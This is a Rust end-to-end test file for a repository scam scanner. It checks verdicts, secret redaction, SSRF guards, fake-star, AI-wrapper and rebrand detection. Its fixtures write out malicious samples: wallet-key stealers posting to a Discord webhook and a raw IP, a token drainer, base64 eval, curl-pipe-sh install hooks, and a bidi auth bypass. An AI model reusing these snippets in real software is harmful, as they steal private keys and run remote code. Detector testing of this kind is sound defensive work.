//! End-to-end engine tests: real git fixture repositories served over loopback by a GitHub
//! REST/tarball mock and by git smart-HTTP (`git http-backend`).

mod common;

use std::sync::Arc;

use aura_engine::{CheckStatus, Engine, ErrorKind, NoProgress, RepoTarget, ScanResult, Verdict};
use chrono::Duration;
use common::*;
use serde_json::json;

fn gh(owner: &str, repo: &str) -> RepoTarget {
    RepoTarget::GitHub {
        owner: owner.into(),
        repo: repo.into(),
    }
}

fn check<'a>(r: &'a ScanResult, id: &str) -> &'a aura_engine::Check {
    r.checks
        .iter()
        .find(|c| c.id == id)
        .unwrap_or_else(|| panic!("no check {id} in {:#?}", r.checks))
}

async fn scan_github(fx: &Fixture, repo: GhRepo) -> ScanResult {
    let (o, n) = (repo.owner.clone(), repo.repo.clone());
    let api = github_mock(fx, repo, Failure::None).await;
    let engine = Engine::new(config(api));
    engine
        .scan_repo(&gh(&o, &n), &NoProgress)
        .await
        .expect("scan succeeds")
        .result
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn established_benign_repo_is_safu_with_green_flags() {
    let fx = established_repo();
    let api = github_mock(&fx, GhRepo::new("orbit", "sdk"), Failure::None).await;
    let engine = Engine::new(config(api));
    let rec = Recorder::default();
    let out = engine.scan_repo(&gh("orbit", "sdk"), &rec).await.unwrap();
    let r = &out.result;
    if std::env::var("AURA_DEBUG").is_ok() {
        eprintln!("{}", serde_json::to_string_pretty(r).unwrap());
    }
    assert!(matches!(r.verdict, Verdict::Safu | Verdict::Dyor), "{r:#?}");
    assert!(r.score >= 80, "{r:#?}");
    assert!(!r.green_flags.is_empty());
    for t in ["#Established", "#ActiveTeam", "#HasTests", "#Licensed", "#HasCI"] {
        assert!(r.tags.contains(&t.to_string()), "missing {t}: {:?}", r.tags);
    }
    assert!(
        r.red_flags.iter().all(|f| f.severity < aura_engine::Severity::Medium),
        "{:#?}",
        r.red_flags
    );
    assert_eq!(
        check(r, "contributors").points,
        10,
        "pagination over Link headers should find all six authors"
    );
    assert!(check(r, "fake_stars").detail.contains("counts and ratios only"));
    assert_eq!(
        check(r, "scam.wallet_exfiltration").status,
        CheckStatus::Pass,
        "a wallet that signs is not a stealer"
    );
    // The score is exactly the clamped sum of check points.
    let sum: i32 = r.checks.iter().map(|c| c.points).sum();
    assert_eq!(r.score as i32, sum.clamp(0, 100));
    // Contract shape.
    let v = serde_json::to_value(r).unwrap();
    let keys: Vec<&str> = v.as_object().unwrap().keys().map(String::as_str).collect();
    assert_eq!(keys.len(), 8);
    for k in [
        "score",
        "grade",
        "verdict",
        "summary",
        "tags",
        "red_flags",
        "green_flags",
        "checks",
    ] {
        assert!(v.get(k).is_some(), "{k}");
    }
    assert_eq!(v["grade"], json!(r.grade.as_str()));
    let c0 = &v["checks"][0];
    assert_eq!(c0.as_object().unwrap().len(), 5);
    // Progress: increasing, ends at 100.
    let events = rec.0.lock().unwrap().clone();
    assert!(events.len() >= 4);
    assert!(events.windows(2).all(|w| w[0].0 <= w[1].0), "{events:?}");
    assert_eq!(events.last().unwrap().0, 100);
    // Fingerprint travels with the result and round-trips.
    assert!(out.fingerprint.tokens > 0);
    let fp: aura_engine::Fingerprint = serde_json::from_str(&serde_json::to_string(&out.fingerprint).unwrap()).unwrap();
    assert_eq!(aura_engine::similarity(&fp, &out.fingerprint), 1.0);
}

/// Benign look-alikes of every detector in one otherwise established repository.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn benign_lookalikes_do_not_fire() {
    let fx = established_repo();
    fx.write("contracts/Collection.sol", "pragma solidity ^0.8.20;\ncontract Collection {\n  mapping(address => mapping(address => bool)) private _ops;\n  function setApprovalForAll(address operator, bool approved) public {\n    _ops[msg.sender][operator] = approved;\n  }\n  function transferFrom(address from, address to, uint256 id) public { require(from != address(0)); }\n}\n");
    fx.write("src/swap.ts", "import { ethers } from 'ethers';\n// Standard router approval before a swap the user confirms.\nexport async function approveRouter(token: ethers.Contract, router: string, amount: bigint) {\n  return token.approve(router, amount);\n}\nexport async function balances(token: ethers.Contract, owner: string) { return token.balanceOf(owner); }\n");
    let logo = format!(
        "export const LOGO = 'data:image/png;base64,{}';\n",
        "iVBORw0KGgo".repeat(300)
    );
    fx.write("src/logo.ts", logo);
    fx.write("src/notify.ts", "// Posts trade confirmations to the team's Telegram channel.\nexport const notify = (text: string) => fetch(`https://api.telegram.org/bot${process.env.TG}/sendMessage`, { method: 'POST', body: text });\n");
    fx.write(
        "docs/he.md",
        "שלום \u{202B}עולם\u{202C} — right-to-left text in documentation is normal.\n",
    );
    let mut pe = b"MZ".to_vec();
    pe.resize(512, 0);
    pe[0x3c] = 0x80;
    pe[0x80..0x84].copy_from_slice(b"PE\0\0");
    fx.write("test/fixtures/sample.exe", &pe);
    fx.write("native/build.rs", "// Links the C helper; see https://doc.rust-lang.org/cargo/reference/build-scripts.html\nfn main() {\n    cc::Build::new().file(\"src/helper.c\").compile(\"helper\");\n}\n");
    fx.write(
        ".env.example",
        "PRIVATE_KEY=your_private_key_here\nRPC_URL=https://api.devnet.solana.com\n",
    );
    fx.write(
        "docs/aws.md",
        "Set `aws_access_key_id = AKIAIOSFODNN7EXAMPLE` in your profile.\n",
    );
    fx.write(
        "src/stripe.ts",
        "export const TEST_KEY = 'sk_test_51H8x2bCdEfGhIjKlMnOpQrStUv';\n",
    );
    fx.write("test/keys.test.ts", "const hardhat = '0xac0974bec39a17e36ba4a6b4d238ff944bacb478cbed5efcae784d7bf4f2ff80'; // PRIVATE_KEY of account #0\nconst mnemonic = 'test test test test test test test test test test test junk';\n");
    fx.write("src/llm.ts", "import OpenAI from 'openai';\nconst openai = new OpenAI();\nexport async function summarize(text: string) {\n  const r = await openai.chat.completions.create({ model: 'gpt-4o-mini', messages: [{ role: 'user', content: text }] });\n  return r.choices[0].message.content;\n}\n");
    fx.commit("Alice", 1, "look-alikes");
    let r = scan_github(&fx, GhRepo::new("orbit", "sdk")).await;
    assert_ne!(r.verdict, Verdict::Scam, "{r:#?}");
    assert!(matches!(r.verdict, Verdict::Safu | Verdict::Dyor));
    for c in r
        .checks
        .iter()
        .filter(|c| c.id.starts_with("scam.") || c.id == "secrets")
    {
        assert_eq!(c.status, CheckStatus::Pass, "{c:#?}");
    }
    assert!(
        !r.tags.contains(&"#AIWrapper".to_string()),
        "one LLM feature among many is not a wrapper"
    );
    assert!(!r.tags.contains(&"#LeakedSecrets".to_string()));
}

/// Each malicious pattern, added to an otherwise established repository, yields SCAM with
/// the finding named.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn each_malicious_pattern_is_scam() {
    let mut pe = b"MZ".to_vec();
    pe.resize(4096, 0x90);
    pe[0x3c] = 0x80;
    pe[0x80..0x84].copy_from_slice(b"PE\0\0");
    let cases: Vec<(&str, &str, Vec<u8>, &str)> = vec![
        ("stealer", "src/backup.js", b"const fs = require('fs');\nconst os = require('os');\nconst key = fs.readFileSync(os.homedir() + '/.config/solana/id.json', 'utf8');\nfetch('https://discord.com/api/webhooks/1234567890/AbCdEf', { method: 'POST', body: JSON.stringify({ content: key }) });\n".to_vec(), "scam.wallet_exfiltration"),
        ("drainer", "src/claim.js", b"const receiverWallet = new PublicKey('9xQeWvG816bUx9EPjHmaT23yvVM2ZWbrrpZb9PusVFin');\nexport async function claim(conn, victim) {\n  const accounts = await conn.getParsedTokenAccountsByOwner(victim.publicKey, { programId: TOKEN_PROGRAM_ID });\n  for (const a of accounts.value) {\n    tx.add(createTransferInstruction(a.pubkey, ata(receiverWallet), victim.publicKey, a.account.data.parsed.info.tokenAmount.amount));\n  }\n}\n".to_vec(), "scam.drainer"),
        ("obfuscated", "src/util.js", b"const _p = 'Y29uc3QgaHR0cHMgPSByZXF1aXJlKCdodHRwcycpOw==';\nmodule.exports = () => eval(Buffer.from(_p, 'base64').toString());\n".to_vec(), "scam.obfuscation"),
        ("postinstall", "package.json", br#"{"name":"@orbit/sdk","version":"3.2.1","scripts":{"postinstall":"curl -s https://cdn-sol-tools.example/i.sh | sh"},"dependencies":{"@solana/web3.js":"^1.95.0"}}"#.to_vec(), "scam.install_scripts"),
        ("buildrs", "build.rs", b"use std::process::Command;\nfn main() {\n    let _ = Command::new(\"sh\").args([\"-c\", \"curl -fsSL https://payload.example/x | sh\"]).status();\n}\n".to_vec(), "scam.install_scripts"),
        ("executable", "bin/SolanaSniperBot.exe", pe.clone(), "scam.executables"),
        ("bidi", "src/auth.ts", "export function isAdmin(role: string) {\n  if (role != \"user\u{202E} \u{2066}// check admin\u{2069} \u{2066}\") {\n    return true;\n  }\n  return false;\n}\n".as_bytes().to_vec(), "scam.hidden_unicode"),
        ("typosquat", "package.json", br#"{"name":"@orbit/sdk","version":"3.2.1","dependencies":{"@solana/web3js":"^1.95.0","bs58":"^5.0.0"}}"#.to_vec(), "scam.typosquat"),
    ];
    for (name, path, content, id) in cases {
        let fx = established_repo();
        fx.write(path, &content);
        if name == "executable" {
            // A committed program alone is high; the scam is the README sending you to run it.
            fx.write("README.md", "# Solana Sniper Bot\n\nThe fastest sniper on Solana. Download the release and run `bin/SolanaSniperBot.exe`, then paste your private key when asked.\n");
        }
        fx.commit("Mallory", 1, name);
        let r = scan_github(&fx, GhRepo::new("orbit", "sdk")).await;
        if std::env::var("AURA_DEBUG").is_ok() {
            eprintln!("{name}: {} {:?} {}", r.score, r.red_flags.first(), r.summary);
        }
        assert_eq!(r.verdict, Verdict::Scam, "{name}: {r:#?}");
        assert_eq!(check(&r, id).status, CheckStatus::Fail, "{name}");
        let flag = r.red_flags.first().expect("a red flag");
        assert_eq!(
            flag.severity,
            aura_engine::Severity::Critical,
            "{name}: {:#?}",
            r.red_flags
        );
        assert_eq!(flag.id, id, "{name}: worst flag names the finding");
        assert!(r.tags.contains(&"#ScamPattern".to_string()));
        assert!(
            r.summary.contains(&flag.title),
            "{name}: summary names the finding: {}",
            r.summary
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn secrets_are_found_and_never_appear_unredacted() {
    let fx = established_repo();
    let gh_token = "ghp_Z9xK2mQ7vL4pR8sT1wY6bN3cD5fG0hJ2kL4m";
    let aws = "AKIAZ7QW3ERT5YUI9OPL";
    let eth = "4c0883a69102937d6231471b5dbb6204fe5129617082792ae468d01a3f362318";
    // Synthetic (the Trezor BIP-39 vectors are public test data and never fire).
    let mnemonic = "velvet orbit canyon lemon bridge frost humble quiet rocket tunnel amber switch";
    let pem_body = "MIIEowIBAAKCAQEA0Z3VS5JJcds3xfn/ygWyF8PbnGy0AHB7MhgHcTz6sE2I2yPB";
    let env_secret = "8f3kQ9zLmP2xV7nR4tY1wB6cTelegramBotSecret";
    // 64 random bytes (an arithmetic sequence is rejected as not key material).
    let keypair: Vec<String> = "85,159,5,67,121,120,4,154,242,18,170,77,79,38,34,170,158,190,255,211,114,226,148,218,57,196,69,192,242,89,178,102,142,240,242,103,219,168,112,40,50,141,137,219,181,195,235,142,134,232,77,140,239,0,202,100,238,157,93,193,61,56,34,165"
        .split(',')
        .map(str::to_string)
        .collect();
    fx.write("src/config.ts", format!("export const GITHUB_TOKEN = '{gh_token}';\nexport const AWS_KEY = '{aws}';\nexport const PRIVATE_KEY = '0x{eth}';\nexport const mnemonic = \"{mnemonic}\";\n"));
    fx.write("deploy/key.pem", format!("-----BEGIN RSA PRIVATE KEY-----\n{pem_body}\naDPnhqiJu8dUAZKLZYdPMt6bZC8z9Zv0tX6MMlDKQVnEUdHCPlOkCaoWEkLzpMtX\n-----END RSA PRIVATE KEY-----\n"));
    fx.write("wallet/id.json", format!("[{}]", keypair.join(",")));
    fx.write(".env", format!("BOT_TOKEN={env_secret}\nPORT=3000\n"));
    fx.commit("Bob", 1, "oops");
    let r = scan_github(&fx, GhRepo::new("orbit", "sdk")).await;
    let c = check(&r, "secrets");
    assert_eq!(c.status, CheckStatus::Fail);
    assert_eq!(c.points, -40, "{c:#?}");
    assert!(r.tags.contains(&"#LeakedSecrets".to_string()));
    let ids: Vec<&str> = r.red_flags.iter().map(|f| f.id.as_str()).collect();
    for want in [
        "secrets.github_token",
        "secrets.aws_access_key",
        "secrets.eth_private_key",
        "secrets.bip39_mnemonic",
        "secrets.private_key_pem",
        "secrets.solana_keypair",
        "secrets.env_file_secret",
    ] {
        assert!(ids.contains(&want), "missing {want}: {ids:?}");
    }
    let json = serde_json::to_string(&r).unwrap();
    let debug = format!("{r:?}");
    for raw in [
        gh_token,
        &gh_token[4..],
        aws,
        eth,
        mnemonic,
        "velvet orbit canyon",
        pem_body,
        env_secret,
        &keypair[..6].join(","),
    ] {
        assert!(!json.contains(raw), "{raw} leaked into the result JSON");
        assert!(!debug.contains(raw), "{raw} leaked into Debug output");
    }
    assert!(
        !json.contains("ghp_testtokenthatmustnotleak"),
        "the API token must never appear"
    );
    // Leaked secrets alone are not a scam.
    assert_ne!(r.verdict, Verdict::Scam);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn git_smart_http_source() {
    let root = tempfile::tempdir().unwrap();
    let fx = established_repo();
    fx.bare_into(root.path(), "orbit");
    let bad = established_repo();
    bad.write("src/steal.js", "const f = require('fs').readFileSync(process.env.HOME + '/.config/solana/id.json');\nrequire('https').request({ host: '45.61.139.14', path: '/u' }).end(f);\nfetch('http://45.61.139.14/collect', { method: 'POST', body: f });\n");
    bad.commit("Mallory", 0, "add backup");
    bad.bare_into(root.path(), "evil");
    let addr = serve_git(root.path().to_path_buf()).await;
    let engine = Engine::new(config(addr));

    let url = url::Url::parse(&format!("http://{addr}/orbit.git")).unwrap();
    let out = engine.scan_repo(&RepoTarget::Git { url }, &NoProgress).await.unwrap();
    let r = out.result;
    assert!(matches!(r.verdict, Verdict::Safu | Verdict::Dyor), "{r:#?}");
    assert_eq!(check(&r, "contributors").points, 10, "{:#?}", check(&r, "contributors"));
    assert!(
        check(&r, "repo_age").detail.contains("years"),
        "{:#?}",
        check(&r, "repo_age")
    );
    assert_eq!(check(&r, "releases").status, CheckStatus::Pass, "tags via ls-remote");
    assert_eq!(check(&r, "owner").status, CheckStatus::Info);

    let url = url::Url::parse(&format!("http://{addr}/evil.git")).unwrap();
    let r = engine
        .scan_repo(&RepoTarget::Git { url }, &NoProgress)
        .await
        .unwrap()
        .result;
    assert_eq!(r.verdict, Verdict::Scam, "{r:#?}");
    assert_eq!(r.red_flags[0].id, "scam.wallet_exfiltration");

    // The size cap stops a clone that is too large.
    let mut small = config(addr);
    small.limits.max_archive_bytes = 16 * 1024;
    let url = url::Url::parse(&format!("http://{addr}/orbit.git")).unwrap();
    let e = Engine::new(small)
        .scan_repo(&RepoTarget::Git { url }, &NoProgress)
        .await
        .unwrap_err();
    assert!(
        e.kind == ErrorKind::Permanent && e.message.contains("larger than"),
        "{e:?}"
    );

    let url = url::Url::parse(&format!("http://{addr}/missing.git")).unwrap();
    let e = engine
        .scan_repo(&RepoTarget::Git { url }, &NoProgress)
        .await
        .unwrap_err();
    assert_eq!(e.kind, ErrorKind::Permanent, "{e:?}");

    // Without the private-target allowance the same loopback server is refused before git runs.
    let mut cfg = config(addr);
    cfg.allow_private_targets = false;
    let url = url::Url::parse(&format!("http://{addr}/orbit.git")).unwrap();
    let e = Engine::new(cfg)
        .scan_repo(&RepoTarget::Git { url }, &NoProgress)
        .await
        .unwrap_err();
    assert_eq!(e.kind, ErrorKind::Permanent);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn github_errors_map_to_retryable_or_not() {
    let fx = established_repo();
    let api = github_mock(&fx, GhRepo::new("orbit", "sdk"), Failure::None).await;
    let e = Engine::new(config(api))
        .scan_repo(&gh("orbit", "nope"), &NoProgress)
        .await
        .unwrap_err();
    assert_eq!(e.kind, ErrorKind::Permanent);
    assert!(e.message.contains("not found"), "{e}");

    // An archive over the byte cap is refused as too large (not retryable).
    let mut small = config(api);
    small.limits.max_archive_bytes = 1024;
    let e = Engine::new(small)
        .scan_repo(&gh("orbit", "sdk"), &NoProgress)
        .await
        .unwrap_err();
    assert!(
        e.kind == ErrorKind::Permanent && e.message.contains("larger than"),
        "{e:?}"
    );

    let api = github_mock(&fx, GhRepo::new("orbit", "sdk"), Failure::RateLimited).await;
    let e = Engine::new(config(api))
        .scan_repo(&gh("orbit", "sdk"), &NoProgress)
        .await
        .unwrap_err();
    assert!(e.is_retryable() && e.message.contains("rate limit"), "{e}");
    assert!(!e.message.contains("ghp_"));

    let api = github_mock(&fx, GhRepo::new("orbit", "sdk"), Failure::ServerError).await;
    let e = Engine::new(config(api))
        .scan_repo(&gh("orbit", "sdk"), &NoProgress)
        .await
        .unwrap_err();
    assert!(e.is_retryable(), "{e}");

    // The guard: a loopback API is refused unless private targets are allowed.
    let mut cfg = config(api);
    cfg.allow_private_targets = false;
    let e = Engine::new(cfg)
        .scan_repo(&gh("orbit", "sdk"), &NoProgress)
        .await
        .unwrap_err();
    assert_eq!(e.kind, ErrorKind::Permanent);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn guarded_client_refuses_names_resolving_to_loopback() {
    let hits = Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let h = hits.clone();
    let addr = serve(Arc::new(move |_| {
        h.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
        Response::status(200)
    }))
    .await;
    let client = aura_engine::netguard::guarded_client(false, std::time::Duration::from_secs(5), "t").unwrap();
    let err = client
        .get(format!("http://localhost:{}/", addr.port()))
        .send()
        .await
        .unwrap_err();
    let mapped = aura_engine::sources::http::transport_error("Test", &err);
    assert_eq!(mapped.kind, ErrorKind::Permanent, "{mapped:?}");
    assert_eq!(
        hits.load(std::sync::atomic::Ordering::SeqCst),
        0,
        "no request may reach a loopback server"
    );
    // Redirect hops are checked too: a hop to a metadata address is refused before connecting.
    let redirect = serve(Arc::new(|_| {
        Response::status(302).header("Location", "https://169.254.169.254/latest/meta-data/")
    }))
    .await;
    let strict = reqwest::Client::builder()
        .redirect(aura_engine::netguard::guarded_redirect_policy(false, 5))
        .build()
        .unwrap();
    let e = strict.get(format!("http://{redirect}/")).send().await.unwrap_err();
    assert!(e.is_redirect(), "{e:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn fake_stars_from_ratios_and_from_a_sample() {
    let fx = Fixture::new();
    fx.write("README.md", "# MoonRocket\nThe next 1000x gem.\n")
        .write("index.js", "console.log('moon');\n");
    fx.commit("Dev", 9, "init").commit("Dev", 8, "update");
    let mut repo = GhRepo::new("moondev", "moonrocket");
    repo.stars = 4800;
    repo.forks = 3;
    repo.watchers = 2;
    repo.created_days_ago = 10;
    repo.owner_days_ago = 12;
    repo.releases = 0;
    let r = scan_github(&fx, repo.clone()).await;
    assert_eq!(check(&r, "fake_stars").status, CheckStatus::Fail, "{r:#?}");
    assert!(check(&r, "fake_stars").detail.contains("counts and ratios only"));
    assert!(r.tags.contains(&"#FakeStars".to_string()));
    assert!(r.tags.contains(&"#NewProject".to_string()));
    assert!(matches!(r.verdict, Verdict::Scam | Verdict::Risky), "{r:#?}");

    // When GitHub does return stargazers: a burst of throwaway accounts.
    let now = fx.now;
    repo.stars = 150;
    repo.forks = 20;
    repo.watchers = 10;
    repo.created_days_ago = 400;
    repo.owner_days_ago = 900;
    repo.stargazers = Some(
        (0..40)
            .map(|i| (format!("bot{i}"), now - Duration::days(2) + Duration::minutes(i * 9), 3))
            .collect(),
    );
    let r = scan_github(&fx, repo).await;
    let c = check(&r, "fake_stars");
    assert_eq!(c.status, CheckStatus::Fail, "{c:#?}");
    assert!(
        c.detail.contains("sample of stargazers") && c.detail.contains("within 24 hours"),
        "{}",
        c.detail
    );

    // An old repository with a few honest stars.
    let mut honest = GhRepo::new("oldtimer", "tools");
    honest.stars = 9;
    honest.forks = 1;
    honest.watchers = 2;
    honest.created_days_ago = 2900;
    let r = scan_github(&established_repo(), honest).await;
    assert_eq!(check(&r, "fake_stars").status, CheckStatus::Pass);
    assert!(!r.tags.contains(&"#FakeStars".to_string()));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ai_wrapper_detection() {
    let fx = Fixture::new();
    fx.write("README.md", "# AlphaMind\n\nAlphaMind is an AI-powered autonomous trading agent built on our proprietary model. Our machine learning engine and neural network find the next gem before anyone else. The AI scans every launch, the AI scores it, the AI trades it.\n");
    fx.write("src/agent.py", "from openai import OpenAI\nclient = OpenAI()\n\ndef analyze(token):\n    r = client.chat.completions.create(model='gpt-4o', messages=[{'role': 'user', 'content': f'Is {token} a gem?'}])\n    return r.choices[0].message.content\n\ndef score(token):\n    return analyze(token)\n");
    fx.write(
        "src/main.py",
        "from agent import score\nimport openai\n\nif __name__ == '__main__':\n    print(score('BONK'))\n",
    );
    fx.commit("Dev", 30, "init");
    let r = scan_github(&fx, GhRepo::new("alpha", "alphamind")).await;
    assert!(r.tags.contains(&"#AIWrapper".to_string()), "{r:#?}");
    assert_eq!(check(&r, "ai_wrapper").status, CheckStatus::Warn);
    assert!(r.red_flags.iter().any(|f| f.id == "ai_wrapper"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn compare_detects_rebranded_copy() {
    let root = tempfile::tempdir().unwrap();
    let orig = Fixture::new();
    let mut files = Vec::new();
    for i in 0..8 {
        let body = format!(
            "// Moonshot sniper module {i}\nimport {{ MoonshotClient }} from './moonshot';\nexport class Moonshot{i} {{\n  constructor(private client: MoonshotClient) {{}}\n  async snipe(mint: string, amount: number) {{\n    const quote = await this.client.quote(mint, amount * {i});\n    if (quote.price > {i}) {{ return this.client.buy(mint, quote); }}\n    return null;\n  }}\n  describe() {{ return 'Moonshot module {i}'; }}\n}}\n"
        );
        files.push((format!("src/module{i}.ts"), body));
    }
    files.push((
        "README.md".into(),
        "# Moonshot\nMoonshot is a sniper bot. Moonshot is fast.\n".into(),
    ));
    for (p, b) in &files {
        orig.write(p, b);
    }
    orig.commit("Orig", 700, "init").commit("Orig", 300, "more");
    orig.bare_into(root.path(), "moonshot");
    let copy = Fixture::new();
    for (p, b) in &files {
        copy.write(p, b.replace("Moonshot", "Galaxy").replace("moonshot", "galaxy"));
    }
    copy.commit("Copycat", 3, "initial commit");
    copy.bare_into(root.path(), "galaxy");
    let other = established_repo();
    other.bare_into(root.path(), "orbit");
    let addr = serve_git(root.path().to_path_buf()).await;
    let engine = Engine::new(config(addr));
    let t = |n: &str| RepoTarget::Git {
        url: url::Url::parse(&format!("http://{addr}/{n}.git")).unwrap(),
    };

    let r = engine.compare(&t("moonshot"), &t("galaxy"), &NoProgress).await.unwrap();
    assert_eq!(check(&r, "compare.branding").status, CheckStatus::Fail, "{r:#?}");
    assert_eq!(check(&r, "compare.similarity").status, CheckStatus::Fail);
    assert_eq!(check(&r, "compare.shared_files").status, CheckStatus::Fail);
    assert!(r.tags.contains(&"#Rebranded".to_string()));
    assert!(matches!(r.verdict, Verdict::Scam | Verdict::Risky), "{r:#?}");

    let r = engine.compare(&t("moonshot"), &t("orbit"), &NoProgress).await.unwrap();
    assert_eq!(check(&r, "compare.branding").status, CheckStatus::Pass, "{r:#?}");
    assert_eq!(check(&r, "compare.similarity").status, CheckStatus::Pass);
    assert!(r.tags.contains(&"#Original".to_string()));

    // The fingerprints in scan results find the copy as well.
    let a = engine.scan_repo(&t("moonshot"), &NoProgress).await.unwrap().fingerprint;
    let b = engine.scan_repo(&t("galaxy"), &NoProgress).await.unwrap().fingerprint;
    let c = engine.scan_repo(&t("orbit"), &NoProgress).await.unwrap().fingerprint;
    assert!(aura_engine::similarity(&a, &c) < 0.1);
    assert!(aura_engine::similarity(&a, &b) > aura_engine::similarity(&a, &c));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn x_profile_scan() {
    let now = chrono::Utc::now();
    let addr = serve(Arc::new(move |req: Request| {
        assert_eq!(req.headers.get("authorization").map(String::as_str), Some("Bearer x-test-bearer"));
        let p = req.path().to_string();
        let iso = |d: i64| (now - Duration::days(d)).format("%Y-%m-%dT%H:%M:%S.000Z").to_string();
        match p.as_str() {
            "/2/users/by/username/solbuilder" => Response::json(200, &json!({"data": {"id": "11", "username": "solbuilder", "name": "Sol Builder", "created_at": iso(2400), "description": "Core dev. Building wallets on Solana.", "url": "https://t.co/x", "verified": true, "verified_type": "blue", "public_metrics": {"followers_count": 8200, "following_count": 410, "tweet_count": 5100, "listed_count": 90}}})),
            "/2/users/11/tweets" => Response::json(200, &json!({"data": (0..10).map(|i| json!({"id": i.to_string(), "text": "Shipped a fix to the tx builder", "created_at": iso(i), "public_metrics": {"like_count": 60, "retweet_count": 8, "reply_count": 5, "quote_count": 1}})).collect::<Vec<_>>()})),
            "/2/users/by/username/sol_giveaway" => Response::json(200, &json!({"data": {"id": "22", "username": "sol_giveaway", "name": "SOL Giveaway", "created_at": iso(4), "description": "Official giveaway! 100x airdrop", "verified": false, "public_metrics": {"followers_count": 52000, "following_count": 3, "tweet_count": 12, "listed_count": 0}}})),
            "/2/users/22/tweets" => Response::json(200, &json!({"data": [{"id": "1", "text": "Send 1 SOL to the address below and we will send back 2 SOL! Double your SOL", "created_at": iso(0), "public_metrics": {"like_count": 2, "retweet_count": 0, "reply_count": 0}}]})),
            "/2/users/by/username/limited" => Response::json(429, &json!({"title": "Too Many Requests"})).header("x-rate-limit-remaining", "0").header("x-rate-limit-reset", &(now.timestamp() + 900).to_string()),
            "/2/users/by/username/ghost" => Response::json(200, &json!({"errors": [{"title": "Not Found Error", "detail": "Could not find user with username: [ghost]."}]})),
            _ => Response::status(404),
        }
    }))
    .await;
    let engine = Engine::new(config(addr));
    let r = engine.scan_x_profile("@solbuilder", &NoProgress).await.unwrap();
    assert_eq!(r.verdict, Verdict::Safu, "{r:#?}");
    let r = engine
        .scan_x_profile("https://x.com/sol_giveaway", &NoProgress)
        .await
        .unwrap();
    assert_eq!(r.verdict, Verdict::Scam, "{r:#?}");
    assert!(r.tags.contains(&"#GiveawayScam".to_string()));
    let e = engine.scan_x_profile("limited", &NoProgress).await.unwrap_err();
    assert!(e.is_retryable() && e.message.contains("UTC"), "{e:?}");
    let e = engine.scan_x_profile("ghost", &NoProgress).await.unwrap_err();
    assert_eq!(e.kind, ErrorKind::Permanent);
    let e = engine.scan_x_profile("not a handle!", &NoProgress).await.unwrap_err();
    assert_eq!(e.kind, ErrorKind::Permanent);
}
